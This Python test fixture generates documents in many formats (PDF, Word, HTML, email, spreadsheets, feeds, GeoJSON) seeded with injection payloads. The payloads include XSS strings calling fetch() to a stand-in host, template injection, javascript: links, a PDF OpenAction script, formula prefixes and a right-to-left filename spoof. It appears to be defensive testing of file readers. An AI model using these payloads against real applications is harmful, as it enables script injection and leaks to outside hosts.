"""Documents that carry a payload wherever their format has room for words."""

from __future__ import annotations

import io
import json
from collections.abc import Callable, Mapping
from html import escape

import openpyxl

from tests.geodata.readers import makers
from tests.geodata.readers.tables.makers import csv_bytes

__all__ = ["FOREIGN", "PAYLOADS", "carriers"]

# Nobody is there: a request for it is seen by whoever watches the page or the server.
FOREIGN = "http://outside.invalid"
_CALL = f"window.top.hacked=1;fetch('{FOREIGN}/x')"
# Each ends another kind of place where words may stand.
PAYLOADS: Mapping[str, str] = {
    "script": f"</textarea></title></script><script>{_CALL}</script>",
    "image": f"\"'><img src={FOREIGN}/i.png onerror={_CALL}>",
    "drawing": f"<svg/onload={_CALL}><style>@import '{FOREIGN}/s.css'</style>",
    "template": "{{constructor.constructor('window.top.hacked=1')()}}{%raw%}${window.top.hacked=1}",
    "quote": f"`;'-{_CALL}-'\\\";//--></script>]]>",
    "markdown": f"![x]({FOREIGN}/m.png) [a](javascript:{_CALL}) :red[$x$] <b onmouseover={_CALL}>",
    "turned": "\u202egpj.\u2066\u200bexe\u2069\u202c",
}
_SENTENCE = "On 8 December 2024 a bridge fell in Damascus {} near Homs."


def carriers(payload: str) -> dict[str, bytes]:
    """Return a file of every format with the payload in its text and in all that is about it."""
    name = payload.replace("/", "\u2215").replace("\x00", "")[:80]
    made = {suffix: make(payload, escape(payload)) for suffix, make in _MAKERS.items()}
    inner = {
        f"{name}{suffix}": data for suffix, data in made.items() if suffix in (".html", ".odt")
    }
    made[".zip"] = makers.packed(inner)
    return {f"{name}{suffix}": data for suffix, data in made.items()}


def _pdf(payload: str, _safe: str) -> bytes:
    plain = payload.encode("latin-1", "replace").decode("latin-1")
    text = plain.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
    action = f"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); {text}) >>"
    info = f"/Title (T {text}) /Author (A {text}) /Subject ({text}) /Producer ({text}) {action}"
    return makers.pdf_of([makers.wrap(_SENTENCE.format(plain))], info=info)


def _docx(payload: str, safe: str) -> bytes:
    core = f"<dc:title>T {safe}</dc:title><dc:creator>A {safe}</dc:creator>"
    field = (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>HYPERLINK "{safe}"'
        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    note = makers.word_part(makers.word_paragraph(f"A note on Tartus {payload}"), "comments")
    link = f"<Relationships><Relationship Target='javascript:{safe}'/></Relationships>"
    body = makers.word_paragraph(_SENTENCE.format(payload)) + field
    return makers.docx_of(body, core=core, word__comments=note, word___rels__x=link)


def _odt(_payload: str, safe: str) -> bytes:
    meta = makers.odf_part(
        "<office:meta xmlns:dc='http://purl.org/dc/elements/1.1/'>"
        f"<dc:title>T {safe}</dc:title><dc:creator>A {safe}</dc:creator></office:meta>",
        "document-meta",
    )
    note = f"<office:annotation><text:p>In Tartus {safe}</text:p></office:annotation>"
    link = f"<text:a href='javascript:{safe}'>{safe}</text:a>"
    return makers.odt_of(f"<text:p>{_SENTENCE.format(safe)}{note}{link}</text:p>", meta=meta)


def _rtf(payload: str, _safe: str) -> bytes:
    said = makers.rtf_escape(payload)
    about = f"{{\\info{{\\title T {said}}}{{\\author A {said}}}}}"
    field = f'{{\\field{{\\*\\fldinst HYPERLINK "{said}"}}{{\\fldrslt {said}}}}}'
    text = makers.rtf_escape(_SENTENCE.format(payload))
    return f"{{\\rtf1\\ansi {about}{text} {field}\\par}}".encode()


def _html(payload: str, safe: str) -> bytes:
    paragraph = f"<p>{_SENTENCE.format(safe)} {'Nothing else was damaged that day. ' * 8}</p>"
    return (
        f"<!DOCTYPE html><html><head><title>T {safe}</title><meta name=author content='A {safe}'>"
        f"<meta property='og:site_name' content='S {safe}'><meta name=description content='{safe}'>"
        f"<link rel=canonical href='javascript:{safe}'><script>{payload}</script></head><body>"
        f"<article><h1>T {safe}</h1>{paragraph}<img alt='{safe}' src=x>{payload}</article>"
        "</body></html>"
    ).encode()


def _eml(payload: str, _safe: str) -> bytes:
    inner = makers.message([_SENTENCE.format(payload)], f"Inner {payload}", id="<2@wire.example>")
    sender = f'"S {payload}"'.replace("\\", "") + " <a@b.example>"
    mail = makers.message([_SENTENCE.format(payload)], f"T {payload}", sender=sender)
    mail.add_attachment(inner)
    data = f"In Tartus {payload} fell on Sunday.".encode()
    mail.add_attachment(data, maintype="text", subtype="plain", filename=f"{payload}.txt")
    return mail.as_bytes()


def _mbox(payload: str, safe: str) -> bytes:
    return b"From x Sun Dec  8 05:00:00 2024\n" + _eml(f"box {payload}", safe)


def _xlsx(payload: str, _safe: str) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "".join("." if c in "[]:*?/\\" else c for c in payload)[:31] or "x"
    sheet.append(["title", "author", "source", "date", "url", "text"])
    text = _SENTENCE.format(payload)
    sheet.append([f"T {payload}", f"A {payload}", f"S {payload}", "2024-12-08", payload, text])
    sheet.append(["=HYPERLINK(1)", "@SUM(1)", "+1", "2024-12-08", "javascript:x", text + " Again."])
    sheet["A2"].hyperlink = f"{FOREIGN}/h"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _rss(_payload: str, safe: str) -> bytes:
    item = (
        f"<title>T {safe}</title><author>A {safe}</author><link>javascript:{safe}</link>"
        f"<guid>{safe}</guid><pubDate>Sun, 08 Dec 2024 05:00:00 GMT</pubDate>"
        f"<description>{_SENTENCE.format(escape(safe))}</description>"
        f"<enclosure url='{FOREIGN}/e.mp3'/>"
    )
    channel = f"<channel><title>S {safe}</title><item>{item}</item></channel>"
    return f"<rss version='2.0'>{channel}</rss>".encode()


def _kml(_payload: str, safe: str) -> bytes:
    data = f"<ExtendedData><Data name='{safe}'><value>{safe}</value></Data></ExtendedData>"
    return (
        "<kml xmlns='http://www.opengis.net/kml/2.2'><Document>"
        f"<name>{safe}</name><Placemark><name>N {safe}</name><description>{safe}</description>"
        f"{data}<TimeStamp><when>2024-12-08</when></TimeStamp>"
        "<Point><coordinates>36.7,34.7</coordinates></Point></Placemark></Document></kml>"
    ).encode()


def _properties(payload: str) -> dict[str, str]:
    said = ("place", "source", "author", "title", "notes")
    return {key: f"{key[:1]} {payload}" for key in said} | {
        "date": "2024-12-08",
        "url": f"javascript:{payload}",
    }


def _geojson(payload: str, _safe: str) -> bytes:
    point = {"type": "Point", "coordinates": [36.3, 33.5]}
    properties = {**_properties(payload), payload[:60]: payload}
    feature = {"type": "Feature", "geometry": point, "properties": properties}
    return json.dumps({"type": "FeatureCollection", "features": [feature]}).encode()


def _csv(payload: str, _safe: str) -> bytes:
    row = {**_properties(payload), "latitude": "34.9", "longitude": "35.9"}
    return csv_bytes([list(row), list(row.values())])


def _json(payload: str, _safe: str) -> bytes:
    row = {"text": _SENTENCE.format(payload), "title": f"T {payload}", "source": f"S {payload}"}
    return json.dumps([{**row, "author": payload, "date": "2024-12-08", "url": payload}]).encode()


def _text(payload: str, _safe: str) -> bytes:
    return f"T {payload}\n\n{_SENTENCE.format(payload)}\n\nPhoto: {payload}\n".encode()


_MAKERS: Mapping[str, Callable[[str, str], bytes]] = {
    ".pdf": _pdf,
    ".docx": _docx,
    ".odt": _odt,
    ".rtf": _rtf,
    ".html": _html,
    ".eml": _eml,
    ".mbox": _mbox,
    ".xlsx": _xlsx,
    ".rss": _rss,
    ".kml": _kml,
    ".geojson": _geojson,
    ".csv": _csv,
    ".json": _json,
    ".txt": _text,
    ".md": _text,
}
